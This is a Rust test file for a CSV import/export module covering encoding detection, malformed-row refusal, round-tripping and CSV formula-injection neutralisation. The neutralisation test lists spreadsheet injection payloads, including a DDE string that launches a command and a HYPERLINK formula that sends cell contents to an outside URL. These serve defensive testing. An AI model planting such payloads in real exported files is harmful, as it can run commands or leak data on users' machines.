//! CSV as it comes from other programs.

use guichet::exchange::csv::{Flavour, neutral, read, restored, write};
use guichet::exchange::refusal::Reason;
use proptest::prelude::*;

#[test]
fn encodings_and_delimiters_are_found_out() {
    let utf8 = "nom;ville\r\nÉcole;Nîmes\r\n".as_bytes().to_vec();
    let marked = [b"\xef\xbb\xbf".as_slice(), &utf8].concat();
    let excel = b"nom;ville\r\n\xc9cole;N\xeemes\r\n".to_vec();
    let tabs = "nom\tville\nÉcole\tNîmes\n".as_bytes().to_vec();
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            "nom,ville\nÉcole,Nîmes"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    for bytes in [utf8, marked, excel, tabs, wide] {
        let table = read(&bytes);
        assert_eq!(table.headers, ["nom", "ville"]);
        assert_eq!(table.rows[0].cells, ["École", "Nîmes"]);
        assert_eq!(table.rows[0].line, 2);
    }
}

#[test]
fn rows_know_their_lines_and_bad_ones_leave_the_others_usable() {
    let table =
        read(b"\n\"name, in full\",note\n\nA,\"one\ntwo\"\nB\nC,\"say \"\"hi\"\"\"\r\n,\nD,x,y\n");
    assert_eq!(table.headers, ["name, in full", "note"]);
    let rows: Vec<(u64, &str)> = table
        .rows
        .iter()
        .map(|row| (row.line, row.cells[1].as_str()))
        .collect();
    assert_eq!(rows, [(4, "one\ntwo"), (6, ""), (7, "say \"hi\"")]);
    let refused: Vec<(u64, &Reason)> = table.refused.iter().map(|r| (r.line, &r.reason)).collect();
    assert_eq!(
        refused,
        [(
            9,
            &Reason::Cells {
                found: 3,
                expected: 2
            }
        )]
    );
    assert_eq!(read(b"").refused[0].reason, Reason::Empty);
}

#[test]
fn what_is_written_reads_back() {
    let rows = [
        vec!["name".to_string(), "note".to_string()],
        vec!["A;B, \"C\"".to_string(), "one\ntwo \u{202e}é".to_string()],
    ];
    for flavour in [Flavour::Plain, Flavour::French] {
        let bytes = write(rows.iter().map(Vec::as_slice), flavour);
        assert_eq!(
            bytes.starts_with(b"\xef\xbb\xbf"),
            flavour == Flavour::French
        );
        assert!(bytes.ends_with(b"\r\n"));
        let table = read(&bytes);
        assert_eq!(table.headers, rows[0]);
        assert_eq!(table.rows[0].cells, rows[1]);
    }
}

#[test]
fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
    let run = [
        "=HYPERLINK(\"http://example.org/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "'=1",
        "＋1+cmd",
        "－1+cmd",
        "＠SUM(A1)",
        "\n=1",
    ];
    for cell in run {
        assert_eq!(neutral(cell), format!("'{cell}"));
        assert_eq!(restored(&neutral(cell)), cell);
    }
    let left = [
        "",
        "-",
        "-5",
        "-1 234,50",
        "+33 1 44 32 90 90",
        "l'été",
        "'ada",
        "a=b",
        "5-3",
    ];
    for cell in left {
        assert_eq!(neutral(cell), cell);
        assert_eq!(restored(cell), cell);
    }
    // A table with commas may be opened as one with semicolons, and a cell then ends inside of it.
    for separator in [",", ";"] {
        let cell = format!("rue{separator}=HYPERLINK(A1){separator}-5{separator}a=b");
        let kept = format!("rue{separator}'=HYPERLINK(A1){separator}-5{separator}a=b");
        assert_eq!(neutral(&cell), kept);
        assert_eq!(restored(&kept), cell);
        for (flavour, delimiter) in [(Flavour::Plain, ';'), (Flavour::French, ',')] {
            let row = ["id".to_string(), cell.clone(), format!("\"{cell}\"")];
            let text = String::from_utf8(write([row.as_slice()].into_iter(), flavour)).unwrap();
            let cells = text
                .split(delimiter)
                .map(|cell| cell.trim_start_matches('"'));
            assert!(cells.clone().all(|cell| !cell.starts_with('=')), "{text}");
        }
    }
    let row = ["'=1+1".to_string(), "-5".to_string()];
    let bytes = write([row.as_slice()].into_iter(), Flavour::Plain);
    assert_eq!(bytes, b"''=1+1,-5\r\n");
}

proptest! {
    #[test]
    fn any_cell_reads_back_as_it_was(cell in "['=+@\t\r\n0-9 a-zé,;\"-]{0,8}") {
        let written = neutral(&cell);
        prop_assert_eq!(&restored(&written), &cell);
        let row = |cells: [&str; 2]| cells.map(str::to_string);
        let rows = [row(["name", "note"]), row(["Ada", &cell])];
        for flavour in [Flavour::Plain, Flavour::French] {
            let table = read(&write(rows.iter().map(<[String; 2]>::as_slice), flavour));
            prop_assert_eq!(&table.rows[0].cells, &rows[1]);
        }
    }
}
